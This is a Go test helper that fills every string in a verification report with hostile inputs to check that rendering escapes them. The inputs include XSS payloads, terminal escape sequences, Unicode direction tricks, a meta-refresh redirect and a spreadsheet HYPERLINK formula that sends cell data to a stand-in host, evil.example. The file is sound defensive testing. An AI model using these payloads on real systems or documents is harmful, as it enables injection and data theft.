package report

import (
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/defacecheck/defacecheck/verify"
)

// hostile is what a page may put into any text that it controls.
var hostile = []string{
	`<script>alert(1)</script><img src=x onerror=alert(1)>`,
	`"><a href="javascript:alert(1)" onclick='x'>`,
	"\u202egnp.exe \u2066right\u2069 to left\u200b\ufeff",
	"\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b1m\r\nSUPPORTED\t",
	`=HYPERLINK("http://evil.example/?q="&A1)`,
	`https://user:secret@evil.example/?token=abc#x`,
	`</style></title><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`{{.Title}} ${x} <!-- ]]> url(https://evil.example/x.png) expression(alert(1))`,
	strings.Repeat("unbreakable", 400),
	"Z" + strings.Repeat("\u0301", 200) + "algo \U000E0041 \u3164 \u2800 \xff\xfe",
	"عربي עברית 中文 ไทย",
}

// poison puts hostile text into every string of v; i counts through the kinds.
// Words of our own vocabulary stay, they have types of their own.
func poison(v reflect.Value, i *int) {
	switch v.Kind() {
	case reflect.String:
		if v.Type() == reflect.TypeFor[string]() {
			v.SetString(hostile[*i%len(hostile)])
			*i++
		}
	case reflect.Pointer:
		if !v.IsNil() {
			poison(v.Elem(), i)
		}
	case reflect.Struct:
		if v.Type() != reflect.TypeFor[time.Time]() {
			for f := range v.NumField() {
				poison(v.Field(f), i)
			}
		}
	case reflect.Slice:
		for e := range v.Len() {
			poison(v.Index(e), i)
		}
	}
}

// hostileResult has hostile text in every field; start shifts which text
// stands where.
func hostileResult(start int) *verify.Result {
	r := sampleResult()
	r.Notes = []string{"x", "y"}
	i := start
	poison(reflect.ValueOf(r).Elem(), &i)
	r.Schema = verify.Schema
	m := map[string]any{}
	r.Versions.Methods = map[string]string{}
	for _, h := range hostile {
		m[h] = []any{h, map[string]any{h: h}, 1.5, true, nil}
		r.Versions.Methods[h] = h
	}
	r.Claim.Metadata = m
	return r
}

func hostileJudgement(t *testing.T) *verify.Judgement {
	j := sampleJudgement(t)
	j.Result = hostileResult(0)
	for i := range j.Exhibits {
		j.Exhibits[i].CaptureID = j.Result.Captures[i].ID
	}
	return j
}
